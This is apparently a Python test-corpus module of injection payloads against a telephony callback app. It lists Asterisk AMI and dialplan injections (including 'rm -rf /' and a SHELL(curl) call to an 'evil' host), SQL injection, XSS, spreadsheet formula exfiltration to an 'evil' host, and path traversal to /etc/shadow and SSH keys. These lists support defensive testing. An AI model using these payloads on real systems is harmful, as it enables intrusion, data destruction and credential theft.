"""Injection corpus for tests/security: one list per attack, each entry a real-world shape of it."""

from __future__ import annotations

# AMI header and action injection, dialplan variable and function injection.
AMI = [
    "\r\nAction: Originate\r\nChannel: Local/666@evil\r\nContext: default\r\nExten: 666\r\n",
    "\r\n\r\nAction: Originate\r\nChannel: PJSIP/666@carrier\r\nApplication: System\r\nData: rm -rf /\r\n",
    "\nAction: Hangup\nChannel: all",
    "x\rChannel: Local/666@evil",
    "\r\nAction: Command\r\nCommand: core stop now\r\n",
    "\x00Action: Originate",
    "\u2028Action: Originate\u2029Channel: Local/666@evil",
    "\u0085Action: Originate",
    ",INJECTED=666",
    ";INJECTED=666",
    "|INJECTED=666",
    "CALLBACK_ID=666",
    "${SHELL(curl http://evil/666)}",
    "$[${EXTEN}+666]",
    "${CALLBACK_RECDIR}/../../../etc/666",
    "Action: Originate",
    "Local/666@evil",
    "\\r\\nAction: Originate\\r\\nChannel: Local/666@evil",
    "%0d%0aAction: Originate%0d%0aChannel: Local/666@evil",
    "；Action：Originate，Channel：Local/666@evil",
    '"evil" <666>',
    "666" + "A" * 1100,
]
CONTROL = ("\r", "\n", "\x00", "\u2028", "\u2029", "\u0085")

# SQL metacharacters and classic injection strings (stored as text, never interpreted).
SQL = [
    "' OR '1'='1", "'; DROP TABLE reports; --", "\"; DROP TABLE audit_log; --", "1; DELETE FROM users",
    "%", "_", "%%", "\\", "\\'", "' UNION SELECT password_hash FROM users --", "JJ%' OR 1=1 --",
    "$$; DROP TABLE tickets; $$", "`id`", "/* comment */", "x' AND pg_sleep(5) --", "\\x27", "0x27",
    "'; UPDATE audit_log SET actor='x' --", "[", "]", "^", "?", ":name", "%(x)s", "{0}",
]

# HTML and script injection for names, notes, categories, stations.
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
    "'><script>alert(document.cookie)</script>", "<a href=\"javascript:alert(1)\">x</a>",
    "</textarea><script>alert(1)</script>", "{{7*7}}", "{% raw %}x", "<iframe src=//evil>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<style>*{display:none}</style>", "</script><script>alert(1)</script>",
]

# CSV / spreadsheet formula injection.
FORMULA = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]

# Path traversal and escapes for recording paths.
PATHS = [
    "../../etc/passwd", "../../../../../../etc/shadow", "/etc/passwd", "1/../../outside.wav",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "..\\..\\windows\\win.ini", "1/call.wav\x00.txt",
    "link/escape.wav", "/var/spool/asterisk/callback/../../../../etc/passwd", "~/.ssh/id_rsa", ".", "..", "",
]
